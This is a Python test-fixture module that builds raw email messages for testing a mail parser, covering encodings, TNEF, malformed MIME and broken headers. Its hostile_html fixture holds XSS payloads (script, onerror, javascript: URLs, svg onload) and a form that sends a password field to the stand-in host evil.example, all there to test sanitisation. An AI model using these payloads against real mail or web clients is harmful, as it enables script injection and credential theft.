"""Real-world-shaped messages, as raw bytes the way mail clients and servers produce them."""

from __future__ import annotations

import base64
import os

CRLF = b"\r\n"


def _raw(text: str, encoding: str = "utf-8") -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode(encoding)


def outlook_alternative() -> bytes:
    return _raw(
        """From: =?utf-8?Q?Bj=C3=B8rn_=C3=85s?= <bjorn@kunde.no>
To: Kundeservice <support@acme.test>
Subject: =?utf-8?B?U3DDuHJzbcOlbCBvbSBmYWt0dXJh?=
Date: Fri, 20 Nov 2026 09:14:03 +0100
Message-ID: <DB9PR01MB1234ABCD@DB9PR01MB1234.eurprd01.prod.outlook.com>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="_000_DB9PR01MB_"
Content-Language: nb-NO
X-MS-Has-Attach:

--_000_DB9PR01MB_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

Hei!

Jeg har et sp=C3=B8rsm=C3=A5l om fakturaen.

Med vennlig hilsen
Bj=C3=B8rn

--_000_DB9PR01MB_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

<html><head><meta http-equiv=3D"Content-Type" content=3D"text/html; charset=3D=
utf-8"><style>p{margin:0}</style></head><body><div class=3D"WordSection1"><p>=
Hei!</p><p>Jeg har et sp=C3=B8rsm=C3=A5l om fakturaen.</p><div id=3D"appendonsend"></div><hr style=3D"display:inline-block;width:98%" tabindex=3D"-1"><div id=3D"divRplyFwdMsg"><b>Fra:</b> Acme</div></div></body></html>

--_000_DB9PR01MB_--
"""
    )


def legacy_latin1() -> bytes:
    return _raw(
        """From: "M\xfcller, J\xfcrgen" <juergen@beispiel.de>
To: support@acme.test
Subject: =?iso-8859-1?Q?Gr=FC=DFe_aus_K=F6ln?=
Date: Thu, 19 Nov 2026 18:00:00 +0100
Message-ID: <latin1-0001@beispiel.de>
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: 8bit

Sehr geehrte Damen und Herren, die Lieferung f\xfcr K\xf6ln ist unvollst\xe4ndig. \xc6\xd8\xc5 \xe6\xf8\xe5.
""",
        "latin-1",
    )


def windows_1252_and_koi8() -> bytes:
    text = """From: =?koi8-r?B?6dfBzg==?= <ivan@example.ru>
To: support@acme.test
Subject: =?windows-1252?Q?Price_=96_=80100?=
Message-ID: <cp1252-0001@example.ru>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="XX"

--XX
Content-Type: text/plain; charset=windows-1252
Content-Transfer-Encoding: 8bit

The price is \x80100 \x96 \x93quoted\x94.
--XX
Content-Type: text/plain; charset=koi8-r; name="note.txt"
Content-Disposition: attachment; filename="note.txt"
Content-Transfer-Encoding: base64

"""
    return _raw(text, "latin-1") + base64.b64encode("Привет".encode("koi8-r")) + _raw("\n--XX--\n")


def unknown_charset() -> bytes:
    return _raw(
        """From: odd@example.com
To: support@acme.test
Subject: Unknown charset
Message-ID: <unknown-charset@example.com>
Content-Type: text/plain; charset=x-klingon-42
Content-Transfer-Encoding: 8bit

Caf\xc3\xa9 ok
""",
        "latin-1",
    )


def winmail_dat() -> bytes:
    tnef = b"\x78\x9f\x3e\x22" + os.urandom(200)
    return (
        _raw(
            """From: Exchange User <ex@corp.example>
To: support@acme.test
Subject: Contract (rich text)
Message-ID: <tnef-0001@corp.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="TNEF"

--TNEF
Content-Type: text/plain; charset="us-ascii"

See the attached contract.
--TNEF
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="winmail.dat"

"""
        )
        + base64.encodebytes(tnef).replace(b"\n", CRLF)
        + _raw("--TNEF--\n")
    )


PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def inline_image() -> bytes:
    return (
        _raw(
            """From: Apple Mail <anna@icloud.example>
To: support@acme.test
Subject: Screenshot of the error
Message-ID: <inline-0001@icloud.example>
MIME-Version: 1.0
Content-Type: multipart/related; type="text/html"; boundary="REL"

--REL
Content-Type: text/html; charset=utf-8

<div>Here is the error:<br><img src="cid:img1@icloud.example" alt="error"></div>
--REL
Content-Type: image/png; name="error.png"
Content-ID: <img1@icloud.example>
Content-Disposition: inline; filename="error.png"
Content-Transfer-Encoding: base64

"""
        )
        + base64.encodebytes(PNG).replace(b"\n", CRLF)
        + _raw("--REL--\n")
    )


def no_message_id() -> bytes:
    return _raw(
        """From: old-client@example.net
To: support@acme.test
Subject: No id here
Date: Wed, 18 Nov 2026 07:00:00 +0000

Sent from a device that sets no Message-ID.
"""
    )


def duplicated_message_id(n: int) -> bytes:
    return _raw(
        f"""From: list@example.org
To: support@acme.test
Subject: Same id {n}
Message-ID: <dup-everywhere@example.org>

copy {n}
"""
    )


def malformed_mime() -> bytes:
    return _raw(
        """From: broken@example.com
To: support@acme.test
Subject: Broken MIME
Message-ID: <broken-mime@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="never-closed"

--never-closed
Content-Type: text/plain
Content-Transfer-Encoding: base64

This is not base64 at all !!! ###
--never-closed
Content-Type: application/octet-stream; name=
Content-Disposition: attachment; filename*=utf-8''%E2%82%AC%20bad%ZZ.bin

\x00\x01 binary without encoding
"""
    )


def broken_headers() -> bytes:
    return _raw(
        """From: "Unclosed quote <weird@@example..com
To: support@acme.test, , <>
Subject: =?utf-8?B?broken-base64?=
Date: not a date
Message-ID: <headers-broken@example.com>
Content-Type: text/plain; charset="utf-8

Headers are broken but the body is fine.
"""
    )


def hostile_html() -> bytes:
    return _raw(
        """From: Mallory <mallory@evil.example>
To: support@acme.test
Subject: Hostile HTML
Message-ID: <hostile@evil.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p>Hello</p>
<script>window.__pwned = 'script'</script>
<img src="x" onerror="window.__pwned='onerror'">
<a href="javascript:window.__pwned='href'" id="evil-link">click</a>
<svg onload="window.__pwned='svg'"><script>window.__pwned='svg-script'</script></svg>
<iframe src="javascript:parent.__pwned='iframe'"></iframe>
<form action="https://evil.example/steal"><input name="pw"></form>
<div style="background:url(javascript:window.__pwned='css')">styled</div>
<img src="https://tracker.evil.example/pixel.gif?u=1" alt="pixel">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<object data="javascript:window.__pwned='object'"></object>
"""
    )


def big_attachment(size: int = 20 * 1024 * 1024) -> bytes:
    payload = base64.encodebytes(os.urandom(size)).replace(b"\n", CRLF)
    return (
        _raw(
            """From: Big Sender <big@example.com>
To: support@acme.test
Subject: Large drawing
Message-ID: <big-20mb@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="BIG"

--BIG
Content-Type: text/plain

The drawing is attached.
--BIG
Content-Type: application/octet-stream; name="drawing.dwg"
Content-Disposition: attachment; filename="drawing.dwg"
Content-Transfer-Encoding: base64

"""
        )
        + payload
        + _raw("--BIG--\n")
    )


def corpus() -> list[tuple[str, bytes]]:
    return [
        ("outlook multipart/alternative, RFC 2047", outlook_alternative()),
        ("8-bit latin-1", legacy_latin1()),
        ("windows-1252 and koi8-r", windows_1252_and_koi8()),
        ("unknown charset", unknown_charset()),
        ("winmail.dat", winmail_dat()),
        ("inline image", inline_image()),
        ("no Message-ID", no_message_id()),
        ("duplicated Message-ID 1", duplicated_message_id(1)),
        ("duplicated Message-ID 2", duplicated_message_id(2)),
        ("malformed MIME", malformed_mime()),
        ("broken headers", broken_headers()),
        ("hostile HTML", hostile_html()),
    ]
